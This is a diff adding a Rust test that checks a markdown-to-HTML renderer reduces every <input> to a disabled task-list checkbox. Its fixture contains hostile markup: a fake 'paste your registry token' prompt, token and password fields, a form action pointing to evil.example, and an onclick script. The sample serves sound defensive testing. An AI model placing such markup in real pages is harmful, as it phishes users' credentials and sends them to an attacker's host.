@@ -472,6 +472,59 @@ module "x" {}
     }
 }
 
+/// Task lists keep their checkboxes, as pulldown-cmark renders them
+/// (disabled); any other `<input>` (a fake "enter your token" box, a
+/// password field, an image button, a hidden field) is at most such a
+/// checkbox: no text box, no name, no value, no form target.
+#[test]
+fn inputs_are_only_the_checkboxes_of_task_lists() {
+    let html = render_markdown("- [x] done\n- [ ] to do\n");
+    assert_eq!(html.matches("<input").count(), 2, "{html}");
+    assert_eq!(html.matches(r#"type="checkbox""#).count(), 2, "{html}");
+    assert_eq!(html.matches("disabled").count(), 2, "{html}");
+    assert_eq!(html.matches("checked").count(), 1, "{html}");
+
+    let hostile = r#"<p>Paste your registry token:
+<input type="text" name="token" placeholder="tfreg_..." value="x" autofocus>
+<input type="password" name="secret">
+<input name="untyped">
+<input type="image" src="https://evil.example/x.png" formaction="https://evil.example">
+<input type="hidden" name="h" value="v">
+<input type="submit" value="Sign in">
+<input type="checkbox" checked onclick="alert(1)" form="f" name="c">
+</p>
+"#;
+    let html = render_markdown(hostile);
+    assert!(html.contains("Paste your registry token"), "{html}");
+    let inputs: Vec<&str> = html
+        .split("<input")
+        .skip(1)
+        .map(|rest| rest.split('>').next().unwrap())
+        .collect();
+    assert_eq!(inputs.len(), 7, "{html}");
+    for attrs in inputs {
+        assert!(attrs.contains(r#"type="checkbox""#), "{attrs}");
+        assert!(attrs.contains("disabled"), "{attrs}");
+        for gone in [
+            "text",
+            "password",
+            "image",
+            "hidden",
+            "submit",
+            "name=",
+            "value=",
+            "placeholder",
+            "autofocus",
+            "src=",
+            "formaction",
+            "onclick",
+            "form=",
+        ] {
+            assert!(!attrs.contains(gone), "{gone} survived in <input{attrs}>");
+        }
+    }
+}
+
 #[test]
 fn docs_round_trip_through_json() {
     let docs = extract(module());
